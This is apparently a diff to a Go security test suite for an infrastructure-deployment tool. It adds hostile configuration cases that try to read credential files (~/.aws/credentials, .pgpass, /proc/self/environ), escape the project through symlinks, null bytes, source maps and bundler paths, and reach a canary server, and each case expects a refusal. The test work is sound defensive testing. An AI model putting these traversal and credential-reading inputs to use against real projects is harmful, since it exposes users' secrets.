@@ -32,6 +32,8 @@ type hostile struct {
 	// files of the checkout, by name; links by name too, and what they lead to. PROJECT, OUTSIDE, HOME and CANARY stand for
 	// the folders and for the address of the server that nobody allowed.
 	files, links map[string]string
+	// pipes are files of the checkout into which nobody writes.
+	pipes []string
 	// command is what is run in the checkout, plan by default.
 	command []string
 	env     []string
@@ -103,6 +105,17 @@ func attacks() map[string]hostile {
 		"the store of another stack": {
 			files: stack("refs: {x: {stack: other, store: \"postgres://u@CANARY/db\"}}\nresources: {v: {" + value + ", props: {input: \"${ref.x.y}\"}}}\n"),
 			asks:  []string{"store=postgres://u@CANARY/db@refs.x.store"}, reaches: "canary", never: "hunter2", sent: "user\x00u\x00",
+		},
+		"the store of another stack, for somebody with files of passwords": {
+			files: with(stack("refs: {x: {stack: other, store: \"postgres://u@CANARY/db\"}}\nresources: {v: {"+value+", props: {input: \"${ref.x.y}\"}}}\n"),
+				"../home/.pgpass", "*:*:*:*:hunter2\n", "../home/.pg_service.conf", "[mine]\npassword=hunter2\noptions=-c hunter2.x=y\n"),
+			env:  []string{"PGPASSFILE=HOME/.pgpass", "PGSERVICE=mine", "PGSERVICEFILE=HOME/.pg_service.conf", "PGOPTIONS=-c hunter2.x=y"},
+			asks: []string{"store=postgres://u@CANARY/db@refs.x.store"}, reaches: "canary", never: "hunter2", sent: "user\x00u\x00",
+		},
+		"a store that a file of the checkout leads elsewhere": {
+			files: with(stack("refs: {x: {stack: other, store: \"postgres://u@/db?service=x&servicefile=services\"}}\nresources: {v: {"+value+", props: {input: \"${ref.x.y}\"}}}\n"),
+				"services", "[x]\nhost=127.0.0.1\nport=1\n"),
+			env: []string{"ATHANOR_ALLOW=store=postgres://u@/db?service=x&servicefile=services"}, code: 1, says: "stage's own store",
 		},
 		"any file and any variable in a query": {
 			files: stack(`providers: {aws: {endpoint: "http://CANARY/", region: eu-west-1}}
@@ -252,6 +265,34 @@ read: {a: {kind: aws.sqs.Queue, query: {name: "${secret.k}"}}, b: {kind: aws.sqs
 				"package.json", `{"scripts": {"postinstall": "touch OUTSIDE/ran"}}`),
 			asks: []string{"path=OUTSIDE/tsconfig.json@resources.fn.code.bundle"},
 		},
+		"a source map of what a bundler reads": {
+			files: with(stack(function("{bundle: src/index.ts, sourceMap: true}")), "src/index.ts", "export const handler = 1;\n//# sourceMappingURL=../../outside/data.json\n"),
+			cloud: true, code: 1, says: "outside of the project",
+		},
+		"what a source map names": {
+			files: with(stack(function("{bundle: src/index.ts, sourceMap: true}")), "src/index.ts", "export const handler = 1;\n//# sourceMappingURL=index.map\n",
+				"src/index.map", `{"version":3,"mappings":"AAAA","names":[],"sources":["file://HOME/.aws/credentials"]}`),
+			cloud: true, code: 1, says: "outside of the project",
+		},
+		"a package's description that is a link": {
+			files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "import 'b';\n", "src/node_modules/b/index.js", "export default 1;\n"),
+			links: map[string]string{"src/node_modules/b/package.json": "OUTSIDE/data.json"}, cloud: true, code: 1, says: "outside of the project",
+		},
+		"another name for a file outside": {
+			files: with(stack("resources: {w: {kind: cloudflare.Worker, props: {compatibilityDate: \"2026-01-01\", code: {bundle: src/w.js, alias: {b: OUTSIDE/data.json}}}}}\n"),
+				"src/w.js", "import b from 'b';\nexport default b;\n"),
+			cloud: true, code: 1, // the cloud has no list of Workers; the trace says what was opened meanwhile
+		},
+		"a path for a package": {
+			files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "import b from 'b';\nexport const handler = b;\n",
+				"src/tsconfig.json", `{"compilerOptions": {"paths": {"b": ["../../outside/data.json"]}}}`),
+			asks: []string{"path=OUTSIDE/data.json@resources.fn.code.bundle"},
+		},
+		"a package's file outside": {
+			files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "import b from 'b';\nexport const handler = b;\n",
+				"src/node_modules/b/package.json", `{"main": "../../../../outside/data.json"}`),
+			cloud: true, code: 1, says: "outside of the project",
+		},
 		"a store that a plan names": {
 			files:   with(stack("resources: {v: {"+value+", props: {input: 1}}}\n"), "plan.json", `{"athanorPlan":2,"target":"PROJECT","stage":"dev-tester","store":"postgres://u@CANARY/db","options":{},"plan":{"format":1,"stack":"shop","stage":"dev-tester","actions":[]}}`),
 			command: []string{"deploy", "plan.json", "--yes"}, code: 1,
@@ -260,6 +301,148 @@ read: {a: {kind: aws.sqs.Queue, query: {name: "${secret.k}"}}, b: {kind: aws.sqs
 			files:   stack("providers: {cloudflare: {endpoint: http://CANARY/}}\nresources: {q: {kind: cloudflare.Queue}}\n"),
 			command: []string{"dev"}, code: -1, until: "nobody has allowed", asks: []string{"endpoint=http://CANARY/@providers.cloudflare.endpoint"},
 		},
+		"what files of the checkout say of permissions": {
+			files: with(stack("resources: {out: {kind: local.File, props: {path: out.txt, source: ../outside/idrsa}}}\n"),
+				".env", "ATHANOR_ALLOW=path=OUTSIDE/idrsa\n", ".envrc", "export ATHANOR_ALLOW=path=OUTSIDE/idrsa\n", "athanor.env", "ATHANOR_ALLOW=path=OUTSIDE/idrsa\n",
+				".athanor/config.yaml", grantsAll, ".config/athanor/config.yaml", grantsAll, "athanor/config.yaml", grantsAll, "config.yaml", grantsAll),
+			asks: []string{"path=" + secret + "@resources.out.source"}, reaches: secret,
+		},
+		"a configuration of the user in the checkout": {
+			files: with(stack("resources: {out: {kind: local.File, props: {path: out.txt, source: ../outside/idrsa}}}\n"), "config/athanor/config.yaml", grantsAll),
+			env:   []string{"XDG_CONFIG_HOME=config"}, // which a path from the root alone can name
+			asks:  []string{"path=" + secret + "@resources.out.source"},
+		},
+		"a path from somebody's home": {
+			files: stack("secrets: {k: {file: ~/.aws/credentials}, l: {file: $HOME/.aws/credentials}}\nresources: {v: {" + value + ", props: {input: \"${secret.k} ${secret.l}\"}}}\n"),
+			code:  1, says: "~/.aws/credentials",
+		},
+		"a source from somebody's home": {
+			files: stack("resources: {out: {kind: local.File, props: {path: out.txt, source: ~/.bashrc}}}\n"), code: 1, says: "~/.bashrc",
+		},
+		"a path in the form of another system": {
+			files: stack("secrets: {a: {file: 'C:\\Users\\x\\idrsa'}, b: {file: '\\\\CANARY\\share\\x'}, c: {file: '\\\\?\\UNC\\CANARY\\x'}, d: {file: '..\\outside\\idrsa'}}\n" +
+				"resources: {v: {" + value + ", props: {input: \"${secret.a} ${secret.b} ${secret.c} ${secret.d}\"}}}\n"),
+			code: 1, says: "idrsa",
+		},
+		"a path that is a URL": {
+			files: stack("secrets: {a: {file: \"file://OUTSIDE/idrsa\"}, b: {file: \"http://CANARY/x\"}}\nresources: {v: {" + value + ", props: {input: \"${secret.a} ${secret.b}\"}}}\n"),
+			code:  1, says: "file:",
+		},
+		"two slashes before a path": {
+			files: stack("resources: {out: {kind: local.File, props: {path: out.txt, source: /OUTSIDE/idrsa}}}\n"),
+			asks:  []string{"path=" + secret + "@resources.out.source"}, reaches: secret,
+		},
+		"a path with a byte that ends it": {
+			files: stack("secrets: {k: {file: \"in.txt\\0/../../outside/idrsa\"}}\nresources: {v: {" + value + ", props: {input: \"${secret.k}\"}}}\n"), code: 1,
+		},
+		"a source with a byte that ends it": {
+			files: stack("resources: {out: {kind: local.File, props: {path: out.txt, source: \"../outside/idrsa\\0.txt\"}}}\n"), code: 1,
+		},
+		"a path that is written with a byte that ends it": {
+			files: stack("resources: {out: {kind: local.File, props: {path: \"../outside/x\\0\", content: x}}}\n"), code: 1,
+		},
+		"the command's own variables": {
+			files: stack("secrets: {a: {file: /proc/self/environ}, b: {file: /proc/thread-self/environ}}\nresources: {v: {" + value + ", props: {input: \"${secret.a} ${secret.b}\"}}}\n"),
+			code:  1, says: "nobody has allowed",
+		},
+		"the command's own variables by way of a link": {
+			files: stack("secrets: {k: {file: key.txt}}\nresources: {v: {" + value + ", props: {input: \"${secret.k}\"}}}\n"),
+			links: map[string]string{"key.txt": "/proc/self/environ"}, code: 1, says: "nobody has allowed",
+		},
+		"the command's own descriptors": {
+			files: stack("secrets: {a: {file: /dev/stdin}, b: {file: /dev/fd/0}}\nresources: {v: {" + value + ", props: {input: \"${secret.a} ${secret.b}\"}}}\n"),
+			code:  1, says: "nobody has allowed",
+		},
+		"a descriptor by way of a link": {
+			files: stack("include: [more.yaml]\n"), links: map[string]string{"more.yaml": "/dev/fd/0"}, code: 1, says: "nobody has allowed",
+		},
+		"the root of another name space": {
+			files: stack("resources: {out: {kind: local.File, props: {path: out.txt, source: /proc/self/root/OUTSIDE/idrsa}}}\n"),
+			asks:  []string{"path=" + secret + "@resources.out.source"},
+		},
+		"the working directory by another name": {
+			files: stack("resources: {out: {kind: local.File, props: {path: out.txt, source: up/idrsa}}}\n"),
+			links: map[string]string{"up": "/proc/self/cwd/../outside"}, asks: []string{"path=" + secret + "@resources.out.source"}, reaches: secret,
+		},
+		"links in a ring": {
+			files: stack("secrets: {k: {file: a}}\nresources: {v: {" + value + ", props: {input: \"${secret.k}\"}}}\n"),
+			links: map[string]string{"a": "b", "b": "c/../a", "c": "."}, code: 1, says: "secrets.k.file",
+		},
+		"a chain of links": {
+			files: stack("secrets: {k: {file: a}}\nresources: {v: {" + value + ", props: {input: \"${secret.k}\"}}}\n"),
+			links: map[string]string{"a": "d1/d2/b", "d1": ".", "d2": "d1/d1", "b": "d2/c", "c": "d1/../outside/idrsa"},
+			asks:  []string{"path=" + secret + "@secrets.k.file"}, reaches: secret,
+		},
+		"an include of an include": {
+			files: with(stack("include: [sub/a.yaml]\n"), "sub/a.yaml", "include: [../b.yaml]\n", "b.yaml", "include: [../outside/more.yaml]\n"),
+			code:  1, says: "include",
+		},
+		"what an included file reaches": {
+			files: with(stack("include: [sub/a.yaml]\n"), "sub/a.yaml", "providers: {cloudflare: {endpoint: http://CANARY/}}\nsecrets: {k: {file: ../../outside/idrsa}, e: {env: PGPASSWORD}}\n"+
+				"resources: {q: {kind: cloudflare.Queue}, out: {kind: local.File, props: {path: out.txt, source: ../outside/idrsa}}, v: {"+value+", props: {input: \"${secret.k} ${secret.e}\"}}}\n"),
+			code: 1, says: "nobody has allowed",
+		},
+		"settings by way of an alias": {
+			files: stack("x-set: &s {endpoint: http://CANARY/, tokenEnv: GITHUB_TOKEN}\nproviders: {cloudflare: *s}\nresources: {q: {kind: cloudflare.Queue}}\n"),
+			asks:  []string{"endpoint=http://CANARY/@providers.cloudflare.endpoint", "identity=GITHUB_TOKEN@providers.cloudflare.tokenEnv"}, reaches: "canary", sent: "hunter2",
+		},
+		"settings that are merged": {
+			files: stack("x-set: &s {endpoint: http://CANARY/, tokenEnv: GITHUB_TOKEN}\nproviders: {cloudflare: {<<: *s}}\nresources: {q: {kind: cloudflare.Queue}}\n"), code: 1,
+		},
+		"a secret by way of an alias": {
+			files: stack("x-s: &s {env: PGPASSWORD}\nx-f: &f ../outside/idrsa\nsecrets: {k: *s, f: {file: *f}}\nresources: {v: {" + value + ", props: {input: \"${secret.k} ${secret.f}\"}}}\n"),
+			asks:  []string{"env=PGPASSWORD@secrets.k.env", "path=" + secret + "@secrets.f.file"},
+		},
+		"a setting that is written twice": {
+			files: stack("providers: {cloudflare: {endpoint: https://api.cloudflare.com/client/v4, endpoint: http://CANARY/}}\nresources: {q: {kind: cloudflare.Queue}}\n"), code: 1,
+		},
+		"a variable of an odd name": {
+			files: stack("secrets: {a: {env: athanor_secret_key}, b: {env: \"PGPASSWORD \"}, c: {env: \" ATHANOR_SECRET_KEY\"}, d: {env: \"\u0410THANOR_SECRET_KEY\"}, e: {env: ATHANOR_ALLOW}}\n" +
+				"resources: {v: {" + value + ", props: {input: \"${secret.a} ${secret.b} ${secret.c} ${secret.d} ${secret.e}\"}}}\n"),
+			code: 1,
+		},
+		"a variable whose name has two": {
+			files: stack("secrets: {a: {env: \"ATHANOR_SECRET_X\\0PGPASSWORD\"}, b: {env: \"ATHANOR_SECRET_=PGPASSWORD\"}, c: {env: \"ATHANOR_SECRET_\"}}\n" +
+				"resources: {v: {" + value + ", props: {input: \"${secret.a} ${secret.b} ${secret.c}\"}}}\n"),
+			code: 1,
+		},
+		"a pipe for a stack":                       {pipes: []string{"athanor.yaml"}, code: 1, says: "not a file"},
+		"a pipe for sealed secrets":                {files: stack("secrets: {k: {sealed: true}}\nresources: {v: {" + value + ", props: {input: \"${secret.k}\"}}}\n"), pipes: []string{"shop.dev-tester.secrets.json"}, code: 1, says: "not a file"},
+		"a pipe for a ring of keys":                {files: stack("resources: {v: {" + value + ", props: {input: 1}}}\n"), pipes: []string{"shop.dev-tester.key.json"}, code: 1, says: "not a file"},
+		"a pipe for the state":                     {files: stack("resources: {v: {" + value + ", props: {input: 1}}}\n"), pipes: []string{".athanor/state.db"}, code: 1, says: "not a file"},
+		"a pipe for the own folder":                {files: stack("resources: {v: {" + value + ", props: {input: 1}}}\n"), pipes: []string{".athanor"}, command: []string{"deploy", "--yes"}, code: 1},
+		"a pipe for a source":                      {files: stack("resources: {out: {kind: local.File, props: {path: out.txt, source: in.txt}}}\n"), pipes: []string{"in.txt"}, code: 1, says: "not a file"},
+		"a pipe in a folder":                       {files: stack("resources: {out: {kind: local.Directory, props: {path: out, source: in}}}\n"), pipes: []string{"in/x"}, code: 1},
+		"a pipe that is written":                   {files: stack("resources: {out: {kind: local.File, props: {path: out.txt, content: x}}}\n"), pipes: []string{"out.txt"}, code: 1},
+		"a pipe that is only read":                 {files: stack("read: {x: {kind: local.File, id: in.txt}}\noutputs: {d: \"${x.digest}\"}\n"), pipes: []string{"in.txt"}, code: 1},
+		"a pipe for a graph":                       {files: stack("include: [sub/more.yaml]\n"), pipes: []string{"sub/more.yaml"}, code: 1, says: "not a file"},
+		"a pipe for a module":                      {files: with(goFunction, "src/main.go", "package main\n\nfunc main() {}\n"), pipes: []string{"go.mod"}, cloud: true, code: 1},
+		"a pipe for a file of Go":                  {files: with(goFunction, "go.mod", "module example.com/x\n\ngo 1.26\n", "src/main.go", "package main\n\nfunc main() {}\n"), pipes: []string{"src/more.go"}, cloud: true, code: 1, says: "not a file"},
+		"a pipe for a workspace":                   {files: with(goFunction, "go.mod", "module example.com/x\n\ngo 1.26\n", "src/main.go", "package main\n\nfunc main() {}\n"), pipes: []string{"go.work"}, cloud: true, code: 1},
+		"a pipe for an archive":                    {files: stack(function("{zip: code.zip}")), pipes: []string{"code.zip"}, cloud: true, code: 1, says: "not a file"},
+		"a pipe in a folder of code":               {files: with(stack(function("{directory: code}")), "code/index.js", "x"), pipes: []string{"code/data"}, cloud: true, code: 1},
+		"a pipe for what to leave out":             {files: with(stack(function("{directory: code}")), "code/index.js", "x"), pipes: []string{"code/.athanorignore"}, cloud: true, code: 1},
+		"a pipe for a bundle":                      {files: stack(function("{bundle: src/index.ts}")), pipes: []string{"src/index.ts"}, cloud: true, code: 1},
+		"a pipe that a bundle imports":             {files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "import './more';\n"), pipes: []string{"src/more.ts"}, cloud: true, code: 1},
+		"a pipe for a package":                     {files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "export const handler = 1;\n"), pipes: []string{"src/package.json"}, cloud: true, code: 1},
+		"a pipe for a bundler":                     {files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "export const handler = 1;\n"), pipes: []string{"src/tsconfig.json"}, cloud: true, code: 1, says: "not a file"},
+		"a pipe that a bundler reads":              {files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "export const handler = 1;\n", "src/tsconfig.json", `{"extends": "./base.json"}`), pipes: []string{"src/base.json"}, cloud: true, code: 1, says: "not a file"},
+		"a pipe for Yarn":                          {files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "import 'b';\n"), pipes: []string{".pnp.data.json"}, cloud: true, code: 1, says: "not a file"},
+		"a link for Yarn":                          {files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "import 'b';\n"), links: map[string]string{".pnp.data.json": "OUTSIDE/data.json"}, asks: []string{"path=OUTSIDE/data.json@resources.fn.code.bundle"}},
+		"a pipe in a folder that a bundle imports": {files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "import './more';\n", "src/more/index.ts", ""), pipes: []string{"src/more/tsconfig.json"}, cloud: true, code: 1, says: "not a file"},
+		"a bundler's file that is too large to judge": {
+			files: with(stack(function("{bundle: src/index.ts}")), "src/index.ts", "export const handler = 1;\n",
+				"src/tsconfig.json", strings.Repeat("// x\n", 300_000)+`{"extends": "../../outside/data.json"}`),
+			cloud: true, code: 1, says: "too large",
+		},
+		"a pipe for a migration": {files: stack("resources: {db: {kind: cloudflare.D1Database, props: {migrations: sql}}}\n"), pipes: []string{"sql/0001.sql"}, cloud: true, code: 1},
+		"a pipe for an asset": {
+			files: with(stack("resources: {w: {kind: cloudflare.Worker, props: {compatibilityDate: \"2026-01-01\", code: {bundle: w.js}, assets: {directory: public}}}}\n"), "w.js", "export default {}\n", "public/index.html", "x"),
+			pipes: []string{"public/_headers"}, cloud: true, code: 1,
+		},
+		"a pipe for an object": {files: stack("providers: {aws: {region: eu-west-1}}\nresources: {o: {kind: aws.s3.Object, props: {bucket: b, key: k, source: in}}}\n"), pipes: []string{"in"}, cloud: true, code: 1, says: "not a file"},
+		"a pipe for wrangler":  {pipes: []string{"wrangler.jsonc"}, command: []string{"adopt", "--from", "wrangler.jsonc"}, code: 1},
+		"a repository's pipe":  {files: with(map[string]string{"sub/athanor.yaml": "stack: shop\nresources: {v: {" + value + ", props: {input: 1}}}\n"}), pipes: []string{"sub/.git"}, command: []string{"plan", "sub"}, code: 2},
 		"a whole number that is none": {
 			files: stack("resources: {v: {" + value + ", props: {input: 18446744073709551616}}}\n"), code: 1, says: "18446744073709551616",
 		},
@@ -283,6 +466,9 @@ func bomb() string {
 // TestHostile plans what nobody has allowed: every refusal comes at once, and before any connection. The same stacks, with
 // the permission, reach what they ask for, so that the traces are known to see it.
 func TestHostile(t *testing.T) {
+	if !isolated(t) {
+		return
+	}
 	for _, name := range slices.Sorted(maps.Keys(attacks())) {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -296,6 +482,9 @@ func attack(t *testing.T, h hostile) {
 	x.write(h.files)
 	for name, to := range h.links {
 		x.link(name, x.fill(to))
+	}
+	for _, name := range h.pipes {
+		x.pipe(name)
 	}
 	if len(h.asks) > 0 && h.code == 0 {
 		h.code = 1
@@ -352,6 +541,9 @@ func attack(t *testing.T, h hostile) {
 	}
 }
 
+// grantsAll would allow all that the attacks ask for, were it the user's.
+const grantsAll = "projects: {PROJECT: {allow: {paths: [\"OUTSIDE/idrsa@resources.out.source\"]}}}\n"
+
 // canarySecret is in files that no stack may read.
 const canarySecret = "canary-4f1b-never-shown"
 
@@ -376,6 +568,13 @@ func (x *arena) startCloud() string {
 				`<Arn>arn:aws:iam::123456789012:user/x</Arn><UserId>A</UserId><Account>123456789012</Account></GetCallerIdentityResult></GetCallerIdentityResponse>`)
 			return
 		}
+		if result := map[string]string{"/accounts": `{"id":"0123456789abcdef0123456789abcdef","name":"x"}`, "/zones": ""}; x.redirect == nil {
+			if one, listed := result[r.URL.Path]; listed {
+				w.Header().Set("Content-Type", "application/json")
+				_, _ = io.WriteString(w, `{"success":true,"errors":[],"messages":[],"result":[`+one+`],"result_info":{"page":1,"per_page":50,"total_pages":1,"count":1}}`)
+				return
+			}
+		}
 		if x.redirect != nil && (r.Method == http.MethodGet || r.Method == http.MethodHead) {
 			x.redirect(w, r)
 			return
@@ -394,9 +593,6 @@ func (x *arena) startCloud() string {
 
 func hostileWorld(t *testing.T) *arena {
 	t.Helper()
-	if _, err := exec.LookPath("strace"); err != nil {
-		t.Skip("no strace to watch connections and files with")
-	}
 	base, err := filepath.EvalSymlinks(t.TempDir())
 	if err != nil {
 		t.Fatal(err)
@@ -436,6 +632,15 @@ func (x *arena) link(name, to string) {
 	}
 }
 
+// pipe makes a file that nothing is ever read from.
+func (x *arena) pipe(name string) {
+	x.Helper()
+	path := filepath.Join(x.project, name)
+	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), syscall.Mkfifo(path, 0o600)); err != nil {
+		x.Fatal(err)
+	}
+}
+
 // hostileRun is what a command did.
 type hostileRun struct {
 	out                         string
@@ -459,9 +664,13 @@ func (x *arena) run(h hostile, env ...string) hostileRun {
 	x.temporary = append(x.temporary, temporary)
 	ctx, cancel := context.WithTimeout(x.Context(), hostileLimit)
 	defer cancel()
-	args := append([]string{"-f", "-y", "-qq", "-s", "4096", "-e", "trace=connect,open,openat,openat2,execve", "-o", trace, built(x.T, false)}, command...)
+	args := append([]string{"-f", "-y", "-qq", "-s", "4096", "-e", "trace=connect,sendto,sendmsg,sendmmsg,open,openat,openat2,creat,execve,execveat", "-o", trace, built(x.T, false)}, command...)
 	for i := range args {
 		args[i] = x.fill(args[i])
+	}
+	env = slices.Clone(env)
+	for i := range env {
+		env[i] = x.fill(env[i])
 	}
 	cmd := exec.CommandContext(ctx, "strace", args...)
 	cmd.Dir = x.project
@@ -496,9 +705,9 @@ func (x *arena) run(h hostile, env ...string) hostileRun {
 }
 
 var (
-	tracedOpen    = regexp.MustCompile(`open(?:at|at2)?\(.*\) = \d+<(.*)>$`)
-	tracedConnect = regexp.MustCompile(`connect\(.*sa_family=AF_INET6?, (.*)\}`)
-	tracedExec    = regexp.MustCompile(`execve\("([^"]*)".*\) = 0$`)
+	tracedOpen    = regexp.MustCompile(`(?:open(?:at|at2)?|creat)\(.*\) = \d+<(.*)>$`)
+	tracedConnect = regexp.MustCompile(`(?:connect|sendto|sendm?msg)\(.*sa_family=AF_(?:INET6?|UNIX), (.*?)\}`)
+	tracedExec    = regexp.MustCompile(`execve(?:at)?\([^"]*"([^"]*)".*\) = 0$`)
 )
 
 func (r *hostileRun) read(trace string) {
@@ -646,6 +855,9 @@ func (c *canaryServer) count() int { return len(c.got()) }
 
 // TestRedirect: a service that is allowed sends the command on to a host that is not: nothing goes there.
 func TestRedirect(t *testing.T) {
+	if !isolated(t) {
+		return
+	}
 	for kind, props := range map[string]string{
 		"aws.s3.Bucket": "{name: some-bucket}", "aws.route53.HostedZone": "{name: example.com}",
 		"aws.lambda.Function": "{name: fn, role: 'arn:aws:iam::123456789012:role/x', handler: index.handler, runtime: nodejs24.x, code: {s3: {bucket: b, key: k}}}",
@@ -676,6 +888,9 @@ const hostileLimit = 3 * time.Minute
 
 // TestExamplesReach: the examples, which ask for nothing, reach nothing but the clouds of the user's environment.
 func TestExamplesReach(t *testing.T) {
+	if !isolated(t) {
+		return
+	}
 	files, err := filepath.Glob("../../examples/*/*.yaml")
 	if err != nil || len(files) < 5 {
 		t.Fatalf("%d examples, %v", len(files), err)
@@ -702,6 +917,9 @@ func TestExamplesReach(t *testing.T) {
 // the stack itself says.
 func TestStateGrantsNothing(t *testing.T) {
 	t.Parallel()
+	if !isolated(t) {
+		return
+	}
 	x, s := hostileWorld(t), cloudflaretest.Start(t)
 	head := "stack: shop\n"
 	x.write(map[string]string{"athanor.yaml": head + "providers: {cloudflare: {endpoint: \"" + s.URL + "\", account: \"" + s.Account + "\"}}\n" +
